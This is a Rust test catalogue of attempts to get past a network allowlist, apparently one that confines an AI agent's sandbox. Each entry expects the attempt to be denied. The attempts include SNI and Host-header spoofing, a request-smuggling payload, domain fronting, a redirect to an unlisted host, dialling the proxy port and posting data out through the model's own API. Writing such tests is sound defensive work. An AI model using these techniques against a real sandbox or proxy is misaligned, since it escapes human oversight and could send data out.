//! What is allowed, used for something else.

use crate::{Attack, Control, Expect, Trace};
use Control::User;
use Expect::{Errno, Exit, Finds};
use Trace::Wire;

const fn wire(id: &'static str, what: &'static str, command: &'static str, denied: Expect) -> Attack {
    Attack { id, what, command, trace: Wire, control: User, denied }
}

/// The class.
pub const ATTACKS: &[Attack] = &[
    wire(
        "G01",
        "another name's SNI at a listed name's address",
        "once(lambda: tls('allowed.example', 'denied.example', 'denied.example'))",
        Errno("ECONNRESET"),
    ),
    wire("G02", "TLS without SNI", "once(lambda: tls('allowed.example', None, 'denied.example'))", Errno("ECONNRESET")),
    wire(
        "G03a",
        "another host in plain HTTP",
        "once(lambda: curl('-f', '-H', 'host: denied.example', 'http://allowed.example/' + T))",
        Exit("curl", 22),
    ),
    wire(
        "G03b",
        "another host in the second request of a connection",
        r"once(lambda: http('allowed.example', 'GET / HTTP/1.1\r\nhost: allowed.example\r\n\r\n', 'GET /%s HTTP/1.1\r\nhost: denied.example\r\n\r\n' % T))",
        Errno("ECONNRESET"),
    ),
    wire(
        "G03c",
        "another host in the request's own address",
        r"once(lambda: http('allowed.example', 'GET http://denied.example/%s HTTP/1.1\r\nhost: allowed.example\r\n\r\n' % T))",
        Finds("HTTP 403"),
    ),
    wire(
        "G03d",
        "a second request hidden in the first (length against chunks)",
        r"once(lambda: http('allowed.example', 'POST / HTTP/1.1\r\nhost: allowed.example\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /%s HTTP/1.1\r\nhost: denied.example\r\n\r\n' % T))",
        Finds("HTTP 403"),
    ),
    wire(
        "G04",
        "an unlisted site behind the address of a listed one",
        "once(lambda: tls('site-a.cdn.example', 'site-b.cdn.example', 'site-b.cdn.example'))",
        Errno("ECONNRESET"),
    ),
    wire(
        "G05",
        "another protocol on a port that is for TLS",
        "once(lambda: tcp('allowed.example', 443))",
        Errno("ECONNRESET"),
    ),
    Attack {
        id: "G14",
        what: "a redirect of a listed host's to an unlisted name",
        command: "once(lambda: curl('-L', 'http://allowed.example/redirect?to=http%3a%2f%2fdenied.example%2f'))",
        trace: Trace::Success,
        control: User,
        denied: Exit("curl", 6),
    },
    wire(
        "G17",
        "an address of the stand-in range that was not given out",
        "each(lambda a: tcp(a, 443), '198.18.77.77', '198.19.255.254')",
        Errno("ECONNRESET"),
    ),
    Attack {
        id: "G19",
        what: "the port that connections are redirected to, dialled itself",
        command: "once(lambda: tcp('127.0.0.1', 47080))",
        trace: Wire,
        control: Control::None("that port is a session's own"),
        denied: Errno("ECONNRESET"),
    },
    wire(
        "G12",
        "the model's API for something else: uploading a file",
        r"once(lambda: upload())
def upload():
    try:
        curl('-f', '-d', T, 'http://anthropic.rcc.internal/v1/files')
    except Denied as error:
        if str(error) != 'curl exit 6':
            raise
        curl('-d', T, 'https://api.anthropic.com/v1/files')",
        Exit("curl", 22),
    ),
    wire(
        "G18",
        "the model's API by its own name",
        "once(lambda: curl('-d', T, 'https://api.anthropic.com/v1/messages'))",
        Exit("curl", 6),
    ),
];
